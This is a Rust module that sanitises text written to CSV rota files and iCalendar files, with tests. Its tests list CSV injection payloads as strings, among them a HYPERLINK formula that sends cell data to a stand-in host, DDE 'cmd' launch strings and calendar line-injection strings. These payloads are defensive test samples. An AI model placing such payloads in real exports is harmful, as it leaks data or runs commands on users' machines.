//! Making text safe for the files Firefly writes: spreadsheets (CSV) and calendars
//! (iCalendar).
//!
//! Names come from data anyone can edit (OpenStreetMap), and a venue's name becomes a zone
//! name in the rota CSV and the unit calendars. The importers refuse control characters
//! ([`crate::import::text`]); these functions neutralise what is left, at the point of
//! writing:
//!
//! * [`spreadsheet_safe`]: a field a spreadsheet would read as a formula (`=HYPERLINK(…)`,
//!   `@SUM(…)`, `+cmd|…`) gets a leading `'`, so it is shown as text (OWASP, "CSV
//!   Injection"). The CSV writer still does the quoting of commas, quotes and line breaks.
//! * [`ical_text`]: RFC 5545 TEXT escaping (section 3.3.11) for SUMMARY, LOCATION,
//!   DESCRIPTION and the like, with carriage returns and other control characters that
//!   would break a content line dealt with too. Folding long lines is still the writer's.

use std::borrow::Cow;

/// `field`, with a `'` in front when a spreadsheet would otherwise read it as a formula or
/// a command: when it starts with `=`, `+`, `-`, `@`, a tab or a carriage return (the
/// characters OWASP lists), or their full-width forms `＝ ＋ － ＠` (which some spreadsheet
/// versions also accept as the start of a formula).
///
/// A plain decimal number such as `-0.41` or `+3` is left alone: a spreadsheet reads it as
/// that number and nothing else, and coordinates must stay numbers. Call it on every text
/// field of a CSV meant for people (names, ids, places, free text); numbers the program
/// formats itself may skip it.
///
/// ```
/// use planner::export::spreadsheet_safe;
/// assert_eq!(spreadsheet_safe("The George"), "The George");
/// assert_eq!(spreadsheet_safe("=HYPERLINK(\"http://x\",\"Bar\")"), "'=HYPERLINK(\"http://x\",\"Bar\")");
/// assert_eq!(spreadsheet_safe("@SUM(A1)"), "'@SUM(A1)");
/// assert_eq!(spreadsheet_safe("-1+1"), "'-1+1");
/// assert_eq!(spreadsheet_safe("-0.416"), "-0.416");
/// ```
pub fn spreadsheet_safe(field: &str) -> Cow<'_, str> {
    let risky = field.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ]);
    if risky && !is_plain_number(field) {
        Cow::Owned(format!("'{field}"))
    } else {
        Cow::Borrowed(field)
    }
}

/// `-12`, `+0.5`, `-0.416`: an optional ASCII sign, digits, and at most one `.` between
/// digits. No exponent, no spaces, nothing else.
fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (int, frac) = match body.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (body, None),
    };
    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    digits(int) && frac.is_none_or(digits)
}

/// `s` as an iCalendar TEXT value (RFC 5545 section 3.3.11): `\` becomes `\\`, `;` `\;`,
/// `,` `\,`, and a line break (LF, CRLF or a lone CR) `\n`. Other control characters,
/// which TEXT may not hold (only a tab may stay), are dropped, so that no value can end
/// its content line or start a new property.
///
/// ```
/// use planner::export::ical_text;
/// assert_eq!(ical_text("Patrol Z01 The George, Luton"), "Patrol Z01 The George\\, Luton");
/// assert_eq!(ical_text("Bar\r\nEND:VEVENT"), "Bar\\nEND:VEVENT");
/// assert_eq!(ical_text("a;b\\c\rd"), "a\\;b\\\\c\\nd");
/// ```
pub fn ical_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 8);
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' => out.push_str("\\\\"),
            ';' => out.push_str("\\;"),
            ',' => out.push_str("\\,"),
            '\n' => out.push_str("\\n"),
            '\r' => {
                chars.next_if_eq(&'\n');
                out.push_str("\\n");
            }
            '\t' => out.push('\t'),
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn issue_13_formula_named_venue_comes_out_quoted() {
        for risky in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "=1+1",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "-",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\u{FF1D}1+1",
            "+",
            "-1e3",
            "-.5",
            "+1.",
        ] {
            let safe = spreadsheet_safe(risky);
            assert_eq!(safe, format!("'{risky}"), "{risky:?}");
        }
        for plain in [
            "The George",
            "",
            "'quoted already",
            " =1+1",
            "Bar = Good",
            "12 Queensway",
            "-0.416",
            "+3",
            "-12",
            "51.879",
            "O'Neill's",
            "Café",
        ] {
            assert!(
                matches!(spreadsheet_safe(plain), Cow::Borrowed(p) if p == plain),
                "{plain:?}"
            );
        }
    }

    #[test]
    fn ical_text_escapes_rfc_5545_specials_and_line_breaks() {
        assert_eq!(ical_text(""), "");
        assert_eq!(ical_text("The George"), "The George");
        assert_eq!(ical_text("a,b;c\\d\ne"), "a\\,b\\;c\\\\d\\ne");
        assert_eq!(ical_text("a\r\nb\rc\n\rd"), "a\\nb\\nc\\n\\nd");
        assert_eq!(
            ical_text("Bar\r\nEND:VEVENT\r\nBEGIN:VEVENT"),
            "Bar\\nEND:VEVENT\\nBEGIN:VEVENT"
        );
        assert_eq!(ical_text("a\0b\u{1b}c\u{7f}d\u{85}e\tf"), "abcde\tf");
        assert_eq!(ical_text("Café \"Rouge\": 老虎"), "Café \"Rouge\": 老虎");
    }

    proptest::proptest! {
        #[test]
        fn ical_text_never_leaves_a_line_break_or_an_unescaped_special(s in "\\PC*|[\\\\;,\r\n\0a-z]*") {
            let t = ical_text(&s);
            proptest::prop_assert!(!t.contains(['\r', '\n']));
            proptest::prop_assert!(!t.chars().any(|c| c.is_control() && c != '\t'));
            // Every `;` and `,` is preceded by an odd run of backslashes (it is escaped).
            let b = t.as_bytes();
            for (i, &c) in b.iter().enumerate() {
                if c == b';' || c == b',' {
                    let run = b[..i].iter().rev().take_while(|&&x| x == b'\\').count();
                    proptest::prop_assert!(run % 2 == 1, "{t:?} at {i}");
                }
            }
        }

        #[test]
        fn spreadsheet_safe_output_never_starts_a_formula(s in "\\PC*|[=+\\-@\t\r0-9.a]*") {
            let safe = spreadsheet_safe(&s);
            let starts_risky = safe.starts_with(['=', '+', '-', '@', '\t', '\r']);
            proptest::prop_assert!(!starts_risky || is_plain_number(&safe), "{safe:?}");
            proptest::prop_assert!(safe.ends_with(s.as_str()));
        }
    }
}
